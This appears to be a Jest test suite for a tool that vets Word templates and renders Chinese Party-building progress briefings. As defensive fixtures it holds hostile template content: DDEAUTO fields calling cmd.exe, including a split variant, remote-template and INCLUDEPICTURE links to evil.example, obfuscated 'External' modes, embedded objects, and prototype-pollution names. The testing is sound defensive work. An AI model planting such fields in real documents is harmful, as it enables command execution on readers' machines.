import { describe, expect, it } from '@jest/globals';
import { Document, Packer, Paragraph } from 'docx';
import PizZip from 'pizzip';
import { briefingData, type BriefingReport } from './briefing-data.js';
import { readTemplate, renderBriefing } from './briefing-template.js';
import { defaultTemplate } from './default-template.js';
import { allPlaceholders, LISTS, TEXTS } from './placeholders.js';

const documentOf = (...lines: string[]): Promise<Buffer> =>
  Packer.toBuffer(new Document({ sections: [{ children: lines.map((line) => new Paragraph(line)) }] }));
const withPart = (content: Buffer, name: string, text: string): Buffer => {
  const zip = new PizZip(content);
  zip.file(name, text);
  return zip.generate({ type: 'nodebuffer' }) as Buffer;
};
const textOf = (content: Buffer): string =>
  new PizZip(content)
    .file('word/document.xml')!
    .asText()
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '');
const value = (numerator: number, denominator: number | null = null, percent: string | null = null) => ({
  numerator,
  denominator,
  percent,
});
const REPORT: BriefingReport = {
  title: '党建带群建工作简报',
  version: 2,
  asOf: '2020-07-06',
  dataVersion: '1:1:',
  sha256: 'f'.repeat(64),
  createdAt: '2020-07-06T09:00:00.000Z',
  kickoff: '2020-05-26',
  deadline: '2020-07-31',
  left: { days: 25, workingDays: 19 },
  reasonNames: { N01: '经营季节性强,暂不稳定' },
  sections: [
    {
      id: 'population',
      figures: [
        { groupBy: [], groups: [], total: value(384) },
        {
          groupBy: ['township', 'kind'],
          total: value(384),
          groups: [
            { key: { township: '天堂镇', kind: 'enterprise' }, ...value(61) },
            { key: { township: '天堂镇', kind: 'social' }, ...value(12) },
          ],
        },
      ],
    },
    {
      id: 'coverage',
      figures: [
        { groupBy: ['type'], total: null, groups: [{ key: { type: 'union' }, ...value(192, 384, '50.00') }] },
        {
          groupBy: ['township', 'type'],
          total: null,
          groups: [{ key: { township: '天堂镇', type: 'union' }, ...value(30, 73, '41.10') }],
        },
      ],
    },
    { id: 'list-completion', figures: [{ groupBy: [], groups: [], total: value(19, 111, '17.12') }] },
    {
      id: 'not-formed-reasons',
      figures: [{ groupBy: ['reason'], total: value(3), groups: [{ key: { reason: 'N01' }, ...value(3) }] }],
    },
  ],
};

describe('the template of the briefing', () => {
  it('that the product brings names known placeholders only, among them every list', async () => {
    const reading = await readTemplate(await defaultTemplate());
    if (!reading.ok) throw new Error(reading.refusal.en);
    const known = new Set(allPlaceholders().map(({ name }) => name));
    expect(reading.placeholders.filter((name) => !known.has(name))).toEqual([]);
    expect(
      Object.keys(LISTS).filter((list) => !reading.placeholders.some((name) => name.startsWith(`${list}.`))),
    ).toEqual([]);
    expect(Object.keys(TEXTS).filter((name) => !reading.placeholders.includes(name))).toEqual([]);
  });

  it('is refused with unknown placeholders by name, and with broken ones by their words', async () => {
    expect(
      await readTemplate(await documentOf('{title} 有 {populaton} 家', '{#coverage}{type}{colour}{/coverage}')),
    ).toMatchObject({
      ok: false,
      refusal: { code: 'unknown-placeholders', zh: '不认识的占位符：coverage.colour、populaton' },
    });
    expect(await readTemplate(await documentOf('{#coverage}{type}'))).toMatchObject({
      ok: false,
      refusal: { code: 'broken-placeholders' },
    });
    expect(await readTemplate(await documentOf('没有'))).toMatchObject({
      ok: false,
      refusal: { code: 'no-placeholders' },
    });
  });

  it.each([
    ['{#coverage}{type}', '循环“{#coverage}”没有结束标记“{/coverage}”'],
    ['{/coverage}', '“{/coverage}”前没有开始标记'],
    ['{#coverage}{type}{/list}', '“{#coverage}”被“{/list}”结束'],
    ['共{population家', '缺少右花括号'],
    ['共population}家', '“共population}”缺少左花括号'],
    ['共{{population}}家', '只用一对花括号'],
    ['{@population}', '请写成“{population}”'],
  ])('%s is refused in a Chinese sentence that names the placeholder', async (line, words) => {
    const reading = await readTemplate(await documentOf('{title}', line));
    expect(reading).toMatchObject({
      ok: false,
      refusal: { code: 'broken-placeholders', zh: expect.stringContaining(words) },
    });
    if (!reading.ok) expect(reading.refusal.zh.replace(/[“{][^”]*”/g, '')).not.toMatch(/[A-Za-z]{4}/);
  });

  it('is refused when a part of it could be opened by no word processor', async () => {
    for (const [part, xml] of [
      ['word/document.xml', '<w:document><w:body><w:p>{title}'],
      ['word/document.xml', 'hello {title}'],
      ['word/header1.xml', '<w:hdr>'],
    ] as const) {
      expect(await readTemplate(withPart(await documentOf('{title}'), part, xml))).toMatchObject({
        ok: false,
        refusal: { code: 'not-a-document', zh: expect.stringContaining(part) },
      });
    }
  });

  it('is refused when it is no document, has macros or draws on other places', async () => {
    const good = await documentOf('{title}');
    expect(await readTemplate(Buffer.from('PK\u0003\u0004 not a zip'))).toMatchObject({
      refusal: { code: 'not-a-document' },
    });
    expect(await readTemplate(withPart(good, 'word/vbaProject.bin', 'x'))).toMatchObject({
      refusal: { code: 'macros' },
    });
    const rels =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotx" TargetMode="External"/></Relationships>';
    expect(await readTemplate(withPart(good, 'word/_rels/settings.xml.rels', rels))).toMatchObject({
      refusal: { code: 'external-content' },
    });
    expect(await readTemplate(withPart(good, 'word/media/big.bin', '0'.repeat(31 * 1024 * 1024)))).toMatchObject({
      refusal: { code: 'too-large' },
    });
  });
});

describe('a template that acts', () => {
  const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const run = (inner: string): string => `<w:r>${inner}</w:r>`;
  const field = (...pieces: string[]): string =>
    run('<w:fldChar w:fldCharType="begin"/>') +
    pieces.map((piece) => run(`<w:instrText>${piece}</w:instrText>`)).join('') +
    run('<w:fldChar w:fldCharType="end"/>');
  const withBody = async (inner: string): Promise<Buffer> =>
    withPart(
      await documentOf('{title}'),
      'word/document.xml',
      `<w:document ${W}><w:body><w:p><w:r><w:t>{title}</w:t></w:r>${inner}</w:p></w:body></w:document>`,
    );

  it.each([
    [field(' DDEAUTO c:\\\\cmd.exe "/k" '), 'DDEAUTO'],
    [field(' DDE', 'AUTO c:\\\\cmd.exe'), 'DDEAUTO'],
    [field(' INCLUDEPICTURE "http://evil.example/a.png" \\d '), 'INCLUDEPICTURE'],
    [field(' includetext "c:\\\\a.docx" '), 'INCLUDETEXT'],
    ['<w:fldSimple w:instr=" LINK Excel.Sheet a "/>', 'LINK'],
    ['<w:altChunk/>', 'altChunk'],
    ['<w:r><w:object/></w:r>', 'object'],
  ])('is refused by the name of what acts: %s', async (inner, name) => {
    expect(await readTemplate(await withBody(inner))).toMatchObject({
      ok: false,
      refusal: { code: 'acting-content', zh: expect.stringContaining(name) },
    });
  });

  it('is told from one with page numbers and dates', async () => {
    expect(await readTemplate(await withBody(field(' PAGE ') + field(' DATE \\@ "yyyy" ')))).toMatchObject({
      ok: true,
    });
  });

  it('is one that brings another file along, or hides what it draws on behind a prefix', async () => {
    const good = await documentOf('{title}');
    expect(await readTemplate(withPart(good, 'word/embeddings/oleObject1.bin', 'x'))).toMatchObject({
      refusal: { code: 'acting-content' },
    });
    const rels =
      '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example" TargetMode="&#69;xternal"/></r:Relationships>';
    expect(await readTemplate(withPart(good, 'word/_rels/settings.xml.rels', rels))).toMatchObject({
      refusal: { code: 'external-content' },
    });
  });

  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
    'of a placeholder {%s} is refused by that name',
    async (name) => {
      expect(await readTemplate(await documentOf('{title}', `{${name}}`))).toMatchObject({
        ok: false,
        refusal: { code: 'unknown-placeholders', zh: expect.stringContaining(name) },
      });
      expect(await readTemplate(await documentOf('{title}', `{#list}{${name}}{/list}`))).toMatchObject({ ok: false });
    },
  );
});

describe('the briefing', () => {
  it('holds the figures of the report, a row per township and reason, and — where there is none', async () => {
    const text = textOf(renderBriefing(await defaultTemplate(), briefingData(REPORT)));
    expect(text).toContain('2020年5月26日启动以来，全县共摸底非公企业和社会组织384家');
    expect(text).toContain('目前完成19个，完成率17.12%');
    expect(text).toContain('距完成期限25天（19个工作日）');
    for (const cell of ['天堂镇', '73', '41.10%', '经营季节性强，暂不稳定', '50.00%']) expect(text).toContain(cell);
    expect(text).not.toMatch(/[{}]|undefined|NaN/);
  });

  it('takes what stands in the data as text', async () => {
    const text = renderBriefing(
      await documentOf('{title}'),
      briefingData({ ...REPORT, title: '<w:p>{population}</w:p> & 简报' }),
    );
    expect(textOf(text)).toContain('&lt;w:p&gt;{population}&lt;/w:p&gt; &amp; 简报');
  });
});
